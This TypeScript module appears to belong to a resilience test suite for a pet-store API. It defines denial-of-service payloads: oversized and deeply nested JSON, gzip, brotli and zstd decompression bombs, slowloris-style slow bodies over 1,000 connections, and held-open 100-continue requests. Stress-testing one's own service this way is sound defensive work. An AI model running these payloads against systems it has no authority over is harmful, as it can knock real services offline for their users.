import { brotliCompressSync, gzipSync } from 'node:zlib';
import type { Attack } from './attack.ts';
import { bearer, drip, head, keepOpen } from './sockets.ts';
import { type Call, many, random, takeTurns } from './turns.ts';

const CONNECTIONS = 64;

const animalWith = (member: string): string => `{"name":"x","categoryId":1,"n":${member}}`;

const NUMBERS = animalWith(`[${many(12_000, () => '1.5e300', ',')}]`);
const DIGITS = animalWith(`[${many(4900, () => '12345678901234567.5', ',')}]`);
const LARGE = [
  animalWith(`[${many(49_000, () => '0', ',')}]`),
  animalWith('['.repeat(49_000) + ']'.repeat(49_000)),
  animalWith(`{${many(9000, (index) => `"k${index}":1`, ',')}}`),
  animalWith(`"${'\\u0041'.repeat(16_000)}"`),
];
/** No more than 100 kB each once they are expanded, or far more. */
const COMPRESSED: readonly Call[] = [NUMBERS, animalWith(`"${' '.repeat(20_000_000)}"`)].flatMap(
  (body) => [
    { path: '/v1/pets', headers: { 'Content-Encoding': 'gzip' }, body: gzipSync(body) },
    { path: '/v1/pets', headers: { 'Content-Encoding': 'br' }, body: brotliCompressSync(body) },
  ],
);

/** Posts one of these bodies after the other. */
function posts(bodies: readonly string[]): Pick<Attack, 'connections' | 'run'> {
  return {
    connections: CONNECTIONS,
    run: (target) => {
      takeTurns(target, () => ({ path: '/v1/pets', body: bodies[random(bodies.length)] ?? '' }));
    },
  };
}

const CREATE = 'mutation ($input: NewPet!) { createPet(input: $input) { id } }';
const UNKNOWN_MEMBERS = `{"query":"${CREATE}","variables":{"input":{${many(8000, (index) => `"k${index}":1`, ',')}}}}`;

export const unknownMembers: Attack = {
  name: 'one key sends variables of 8,000 unknown members',
  connections: CONNECTIONS,
  run: (target) => {
    takeTurns(target, () => ({ path: '/graphql', body: UNKNOWN_MEMBERS }));
  },
};

/** An animal in a zstd frame (RFC 8878, 3.1.1) of a window of 8 MiB, the largest that is taken, and one raw block. */
function inLargeWindow(animal: string): Buffer {
  const [magic, descriptor, window] = [[0x28, 0xb5, 0x2f, 0xfd], 0x00, (23 - 10) << 3];
  const lastRawBlock = (animal.length << 3) | 1;
  const header = [lastRawBlock & 0xff, lastRawBlock >> 8, 0];
  return Buffer.concat([
    Buffer.from([...magic, descriptor, window, ...header]),
    Buffer.from(animal),
  ]);
}

export const windows: Attack = {
  name: 'one key sends zstd bodies with windows of 8 MiB',
  connections: CONNECTIONS,
  run: (target) => {
    const body = inLargeWindow('{"name":"x","categoryId":1}');
    takeTurns(target, () => ({ path: '/v1/pets', headers: { 'Content-Encoding': 'zstd' }, body }));
  },
};

const JSON_OF_90_KB = ['Content-Type: application/json', 'Content-Length: 90000'];
const SLOWLY = { piece: ' ', interval: 1000 };

export const bodies: readonly Attack[] = [
  { name: 'one key sends bodies full of large numbers', ...posts([NUMBERS, DIGITS]) },
  { name: 'one key sends bodies of arrays, nesting, members and escapes', ...posts(LARGE) },
  {
    name: 'one key sends compressed bodies',
    connections: CONNECTIONS,
    run: (target) => {
      takeTurns(target, () => COMPRESSED[random(COMPRESSED.length)] ?? { path: '/' });
    },
  },
  {
    name: 'one key sends a thousand bodies slowly',
    connections: 1000,
    run: (target) => {
      const beginning = `${head('POST /v1/pets', bearer(target), ...JSON_OF_90_KB)}{`;
      drip(target, { beginning, ...SLOWLY });
    },
  },
  {
    name: 'somebody without a key sends a thousand bodies slowly',
    connections: 1000,
    run: (target) => {
      drip(target, { beginning: `${head('POST /v1/pets', ...JSON_OF_90_KB)}{`, ...SLOWLY });
    },
  },
  {
    name: 'one key asks to continue a thousand times, and does not',
    connections: 1000,
    run: (target) => {
      const asking = head(
        'POST /graphql',
        bearer(target),
        'Expect: 100-continue',
        ...JSON_OF_90_KB,
      );
      keepOpen(target, (socket) => {
        socket.resume().write(asking);
      });
    },
  },
];
